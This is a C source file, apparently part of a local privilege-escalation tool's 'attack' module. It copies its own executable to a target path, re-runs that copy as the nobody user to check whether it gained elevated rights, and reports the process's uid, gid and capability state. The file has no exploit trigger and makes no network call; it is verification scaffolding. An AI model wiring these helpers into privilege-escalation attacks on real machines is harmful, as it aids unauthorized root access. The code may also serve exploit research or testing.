#include "attack/rights.h"

#include "base/cleanup.h"

#include <fcntl.h>
#include <linux/capability.h>
#include <sys/sendfile.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { NOBODY = 65534, COPY_MAX = 64 << 20 };

int rights_copy_program(const char *to)
{
    _cleanup_fd_ int in = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    _cleanup_fd_ int out = open(to, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    ssize_t n = 1;

    if (in < 0 || out < 0)
        return -errno;
    while (n > 0)
        n = sendfile(out, in, NULL, COPY_MAX);
    return n < 0 ? -errno : 0;
}

bool rights_are_gained(const char *path)
{
    int status = 0;
    pid_t child = fork();

    if (child == 0) {
        if (geteuid() == 0 && syscall(SYS_setresuid, NOBODY, NOBODY, NOBODY) < 0)
            _exit(2);
        (void)execl(path, path, "--rights", (char *)NULL);
        _exit(3);
    }
    (void)waitpid(child, &status, 0);
    return child < 0 || !WIFEXITED(status) || WEXITSTATUS(status) != 0;
}

int rights_tell(void)
{
    struct __user_cap_header_struct header = {_LINUX_CAPABILITY_VERSION_3, 0};
    struct __user_cap_data_struct data[2] = {{0}};

    if (geteuid() != getuid() || getegid() != getgid() || syscall(SYS_capget, &header, data) < 0)
        return 1;
    return (data[0].effective | data[0].permitted | data[1].effective | data[1].permitted) != 0 ? 1 : 0;
}
